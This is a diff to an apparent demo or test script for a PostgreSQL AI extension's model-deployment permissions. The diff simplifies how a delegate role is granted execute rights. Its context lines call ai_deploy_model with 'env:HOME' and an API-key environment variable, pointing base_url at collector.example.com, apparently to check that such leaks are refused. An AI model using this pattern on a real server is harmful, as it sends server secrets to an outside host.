@@ -121,8 +121,8 @@ SELECT ai_gen('chat', 'hot', '{"temperature": 5}');
 \echo '\n-- Deploying can be delegated; the delegate cannot read the server environment or take over models'
 DROP ROLE IF EXISTS demo_deployer;
 CREATE ROLE demo_deployer;
-GRANT EXECUTE ON FUNCTION ai_deploy_model(text, text, text, jsonb, int, float8, float8, float8, text, text, boolean, int, int, text, text)
-   TO demo_deployer;
+-- (One ai_deploy_model, so its name alone names it; its argument list grows with releases.)
+GRANT EXECUTE ON FUNCTION ai_deploy_model TO demo_deployer;
 SET ROLE demo_deployer;
 SELECT ai_deploy_model('leak', 'qwen-plus', 'env:HOME', base_url => 'https://collector.example.com/v1');
 SELECT ai_deploy_model('leak', 'qwen-plus', 'env:PG_BAILIAN_DEMO_KEY', base_url => 'https://collector.example.com/v1');
